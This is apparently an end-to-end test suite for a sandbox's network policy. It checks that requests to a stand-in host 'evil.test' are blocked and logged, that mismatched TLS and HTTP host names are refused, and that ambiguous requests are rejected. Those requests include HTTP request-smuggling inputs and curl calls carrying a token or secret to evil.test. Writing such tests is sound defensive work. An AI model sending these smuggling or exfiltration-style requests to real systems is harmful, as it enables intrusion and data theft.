# users: user; with PADDOCK_E2E_ALL: root
# What the network says: denials in the client's own protocol, names that must agree, the forward
# proxy, and the log of all of it. Beside each refusal is the same thing, allowed.
# shellcheck disable=SC2154,SC2016

load lib

setup_file() {
	e2e_begin netlog
	mkdir "$E2E/ws/app" "$E2E/web"
	echo 'from the web' > "$E2E/web/page"
	make_ca files.test evil.test
	serve web --dir "$E2E/web"
	serve tls --dir "$E2E/web" --tls "$E2E/ca/leaf.pem" "$E2E/ca/leaf.key"
	serve_banner
	make_box log --network locked --resolve "files.test:80:127.0.0.1:$web_port" \
		--resolve "files.test:443:127.0.0.1:$tls_port" \
		--resolve "files.test:22:127.0.0.1:$banner_port" \
		--resolve "closed.test:80:127.0.0.1:1" "$E2E/ws/app"
	cat > "$E2E/ws/app/raw.py" <<-'PY'
		# raw.py HOST PORT TEXT...: what answers the bytes (TEXT with escapes), first lines only.
		import socket, sys
		out = b""
		try:
		    s = socket.create_connection((sys.argv[1], int(sys.argv[2])), 20)
		    for part in sys.argv[3:]:
		        s.sendall(part.encode().decode("unicode_escape").encode("latin1"))
		    while d := s.recv(65536): out += d
		except ConnectionError:
		    out += b"\nreset"
		except TimeoutError:
		    out += b"\nsilence"
		print("\n".join(l for l in out.decode("latin1").splitlines() if l.startswith(("HTTP/", "reset", "silence", "SSH-", "echo"))))
	PY
}

teardown_file() {
	e2e_end
}

# A server that speaks first, as sshd does.
serve_banner() {
	cat > "$E2E/banner.py" <<-'PY'
		import os, socket, sys
		s = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen(9)
		with open(sys.argv[1] + ".new", "w") as f: f.write(str(s.getsockname()[1]))
		os.rename(sys.argv[1] + ".new", sys.argv[1])
		while True:
		    c, _ = s.accept()
		    c.sendall(b"SSH-2.0-banner\r\n")
		    line = c.recv(1000)
		    c.sendall(b"echo " + line); c.close()
	PY
	python3 "$E2E/banner.py" "$E2E/banner.port" </dev/null >/dev/null 2>&1 3>&- &
	echo $! >> "$E2E/servers"
	wait_until 20 test -s "$E2E/banner.port"
	banner_port=$(cat "$E2E/banner.port")
}

# code CURL-ARGS...: curl's exit code, and the page.
code() {
	in_box log 'out=$(curl -sS -m 30 "$@" 2>&1); echo "$? $out"' "$@"
}

raw() {
	in_box log 'python3 raw.py "$@"' "$@"
}

log_has() { # JQ-FILTER: some event is so
	pd network log log --json | jq -se "any(.[]; $1)" >/dev/null
}

proxy=http://host.docker.internal:3128

works() {
	equal "$(code http://files.test/page)" "0 from the web"
}

@test "what is allowed works, with the proxy and without it" {
	works
	equal "$(code https://files.test/page)" "0 from the web"
	equal "$(code -x "$proxy" http://files.test/page)" "0 from the web"
	equal "$(code -x "$proxy" https://files.test/page)" "0 from the web"
	equal "$(code -x http://gateway.docker.internal:3128 http://files.test/page http://files.test/page)" \
		$'0 from the web\nfrom the web'
	equal "$(in_box log 'http_proxy='"$proxy"' https_proxy='"$proxy"' curl -sS -m 30 https://files.test/page')" "from the web"
	# A server that speaks first is not kept waiting.
	equal "$(raw files.test 22 'SSH-2.0-me\r\n')" $'SSH-2.0-banner\necho SSH-2.0-me'
}

@test "a denial says what it is, why, and what would allow it" {
	local out
	out=$(code -i http://evil.test/data?token=abc)
	has "$out" "HTTP/1.1 403 Forbidden"
	has "$out" "rule: <default policy>"
	has "$out" "paddock network allow log evil.test:80"
	out=$(code -H 'Accept: application/json' http://evil.test/)
	equal "$(jq -r '.error + " " + .host + " " + .allow_with' <<< "${out#0 }")" \
		"blocked evil.test paddock network allow log evil.test:80"
	out=$(code -H 'Accept: application/json' -x "$proxy" http://evil.test/)
	equal "$(jq -r '.error' <<< "${out#0 }")" blocked
	has "$(code -x "$proxy" https://evil.test/)" "403"
	out=$(code https://evil.test/)
	has "$out" "rule: <default policy>"
	has "$out" "paddock network allow log evil.test:443"
	equal "$(raw evil.test 22 'SSH-2.0-me\r\n')" reset
	equal "$(raw evil.test 25)" reset
	works
}

@test "allowed and not reached is not the same as denied" {
	equal "$(raw closed.test 80 'GET / HTTP/1.0\r\n\r\n')" reset
	has "$(code -i -x "$proxy" http://closed.test/)" "HTTP/1.1 502"
	has "$(code -x "$proxy" https://closed.test:80/)" "502"
	wait_until 10 log_has '.decision == "failed" and .host == "closed.test"'
}

@test "names that disagree are a denial: SNI, Host, CONNECT, on every request" {
	local fake
	fake=$(in_box log 'getent ahostsv4 files.test | head -n 1 | cut -d" " -f1')
	# The address that stands for files.test, and another name in TLS.
	has "$(code --resolve "evil.test:443:$fake" https://evil.test/page)" \
		"reason: tls_sni: the server name in TLS is evil.test"
	has "$(code -x "$proxy" --connect-to evil.test:443:files.test:443 https://evil.test/page)" \
		"reason: tls_sni: the server name in TLS is evil.test"
	# None at all, and one in capitals with a dot.
	run in_box log 'python3 -c "
import socket, ssl
c = ssl._create_unverified_context().wrap_socket(socket.create_connection((\"files.test\", 443), 20))
c.sendall(b\"GET /page HTTP/1.0\\r\\nHost: files.test\\r\\n\\r\\n\")
while more := c.recv(4096): print(more.decode())"'
	has "$output" "403 Forbidden"
	has "$output" "reason: tls_no_sni"
	equal "$(code https://FILES.test./page)" "0 from the web"
	has "$(code -i -H 'Host: evil.test' http://files.test/page)" "HTTP/1.1 403"
	equal "$(raw files.test 80 'GET /page HTTP/1.1\r\nHost: files.test\r\n\r\n' \
		'GET /page HTTP/1.1\r\nHost: evil.test\r\n\r\n')" $'HTTP/1.1 200 OK\nHTTP/1.1 403 Forbidden'
	equal "$(raw files.test 80 'GET /page HTTP/1.1\r\nHost: files.test\r\n\r\n' \
		'GET /page HTTP/1.1\r\nHost: files.test\r\nConnection: close\r\n\r\n')" $'HTTP/1.1 200 OK\nHTTP/1.1 200 OK'
	log_has '.type == "http" and .port == 443 and .decision == "blocked" and ((.reason // "") | contains("evil.test"))'
	log_has '(.reason // "") | startswith("tls_no_sni")'
}

@test "what two readers could read differently is refused" {
	local bad before
	before=$(wc -l < "$E2E/web.log")
	for bad in \
		'POST / HTTP/1.1\r\nHost: files.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n' \
		'GET / HTTP/1.1\r\nHost: files.test\r\nHost: evil.test\r\n\r\n' \
		'GET / HTTP/1.1\nHost: files.test\n\n' \
		'GET /page HTTP/1.1 \r\nHost: files.test\r\n\r\n' \
		'POST / HTTP/1.1\r\nHost: files.test\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\nxx'; do
		equal "$(raw files.test 80 "$bad")" "HTTP/1.1 400 Bad Request"
	done
	equal "$(raw host.docker.internal 3128 'GET /page HTTP/1.1\r\nHost: files.test\r\n\r\n')" "HTTP/1.1 400 Bad Request"
	equal "$(wc -l < "$E2E/web.log")" "$before"
	works
}

@test "a web socket passes, with the proxy and without it" {
	cat > "$E2E/ws/app/ws.py" <<-'PY'
		import socket, sys
		s = socket.create_connection((sys.argv[1], int(sys.argv[2])), 20)
		f = s.makefile("rb")
		def head():
		    lines = []
		    while (l := f.readline().strip()): lines.append(l.decode())
		    return lines[0]
		if sys.argv[1] != "files.test":
		    s.sendall(b"CONNECT files.test:80 HTTP/1.1\r\nHost: files.test:80\r\n\r\n"); print(head())
		s.sendall(b"GET /ws HTTP/1.1\r\nHost: files.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n")
		print(head())
		s.sendall(b"\x81\x02hi"); print(f.read(4)); s.shutdown(socket.SHUT_WR); print(f.read())
	PY
	equal "$(in_box log 'python3 ws.py files.test 80')" "HTTP/1.1 101 Switching Protocols"$'\n'"b'\\x81\\x02hi'"$'\n'"b''"
	equal "$(in_box log 'python3 ws.py host.docker.internal 3128')" \
		$'HTTP/1.1 200 Connection established\nHTTP/1.1 101 Switching Protocols\n'"b'\\x81\\x02hi'"$'\n'"b''"
}

@test "git over https, and a push, with the proxy" {
	git init -q --bare "$E2E/web/repo.git"
	git clone -q "$E2E/web/repo.git" "$E2E/web/work" 2>/dev/null
	(cd "$E2E/web/work" && echo x > x && git add x && git commit -qm first && git push -q origin HEAD:main)
	git -C "$E2E/web/repo.git" update-server-info
	equal "$(in_box log 'git -c http.proxy='"$proxy"' clone -q https://files.test/repo.git clone && git -C clone log --format=%s')" first
	run in_box log 'git clone -q https://evil.test/repo.git clone2'
	[ "$status" != 0 ]
}

@test "the log: tables, JSON, limits, no query, nothing that acts on a terminal" {
	local out
	in_box log 'python3 raw.py evil.test 80 "GET /\x1b[2J HTTP/1.1\r\nHost: evil.test\r\n\r\n" >/dev/null; curl -s -m 20 "http://evil.test/a?secret=1" >/dev/null; :'
	out=$(pd network log log)
	has "$out" "Blocked requests:"
	has "$out" "Allowed requests:"
	[[ $out =~ log\ +http\ +evil.test:80\ +transparent\ +\<default\ policy\> ]]
	[[ $out =~ log\ +tls\ +files.test:443\ +forward ]]
	[[ $out =~ log\ +tcp\ +files.test:22\ +transparent ]]
	lacks "$out" $'\033'
	lacks "$(pd network log log --blocked)" "Allowed requests:"
	pd network log log --json | jq -se '
		all(.[]; has("time") and has("decision") and has("host") and has("proxy")) and
		all(.[]; (.path // "") | contains("secret") | not) and
		any(.[]; .type == "http" and .method == "GET" and .path == "/a" and .status == 403) and
		any(.[]; .type == "http" and .status == 200 and .bytes_down > 10 and .decision == "allowed") and
		any(.[]; .type == "dns" and .host == "evil.test")' >/dev/null
	equal "$(pd network log log --json --limit 3 | wc -l)" 3
	equal "$(pd network log --json --blocked --limit 2 | jq -r .decision | sort -u)" blocked
	run --separate-stderr pd network log nosuch
	[ "$status" != 0 ]
	run --separate-stderr pd network log log --limit x
	fails_with 2 "--limit"
}

@test "the log, live" {
	timeout 60 "$PADDOCK" network log log --follow --json --limit 1 > "$E2E/tmp/feed" 3>&- &
	local feed=$!
	wait_until 20 test -s "$E2E/tmp/feed"
	in_box log 'curl -s -m 20 http://live.test/now >/dev/null; :'
	wait_until 20 grep -q '"path":"/now"' "$E2E/tmp/feed"
	kill "$feed"
	wait "$feed" || :
	rm "$E2E/tmp/feed"
}

@test "learn proposes what is missing; with that it works" {
	local out
	out=$(pd network learn log)
	has "$out" "paddock network allow log evil.test:80"
	lacks "$out" "allow log files.test"
	lacks "$out" $'\033'
}

@test "run says at its end what was blocked" {
	run --separate-stderr pd run log -- -c 'curl -s -m 20 http://a.blocked.test >/dev/null; curl -s -m 20 http://b.blocked.test >/dev/null; exit 5'
	equal "$status" 5
	has "$stderr" "2 hosts were blocked: "
	has "$stderr" "a.blocked.test"
	has "$stderr" "paddock network log log"
	run --separate-stderr pd run -q log -- -c 'curl -s -m 20 http://a.blocked.test >/dev/null'
	lacks "$stderr" blocked
	run --separate-stderr pd run log -- -c 'curl -s -m 20 http://files.test/page'
	equal "$output" "from the web"
	lacks "$stderr" blocked
}

@test "a flood of denials is added up, and keeps nothing out" {
	in_box log 'python3 - <<PY
import socket
for i in range(1500):
    s = socket.socket()
    try: s.connect(("flood.test", 99)); s.sendall(b"\0x"); s.recv(1)
    except OSError: pass
    s.close()
PY'
	works
	flood() { [ "$(pd network log log --json --blocked | jq -s 'map(select(.host == "flood.test") | .count) | add')" = 1500 ]; }
	wait_until 20 flood
}

@test "the same after the net role, the log role and the sandbox were started anew" {
	local old count
	old=$(role_pid log net)
	kill_hard "$old"
	wait_until 30 works
	has "$(code -i http://evil.test/after-net)" "HTTP/1.1 403"
	old=$(role_pid log log)
	kill_hard "$old"
	new_log() { local p; p=$(role_pid log log); [ -n "$p" ] && [ "$p" != "$old" ]; }
	wait_until 20 new_log
	has "$(code -i http://evil.test/after-log)" "HTTP/1.1 403"
	wait_until 20 log_has '.path == "/after-log"'
	log_has '.path == "/after-net"'
	count=$(pd network log log --json | wc -l)
	note_namespaces
	pd stop log >/dev/null
	[ "$(pd network log log --json | wc -l)" -ge "$count" ]
	works
	has "$(code -i http://evil.test/after-stop)" "HTTP/1.1 403"
	wait_until 20 log_has '.path == "/after-stop"'
	log_has '.path == "/after-net"'
}
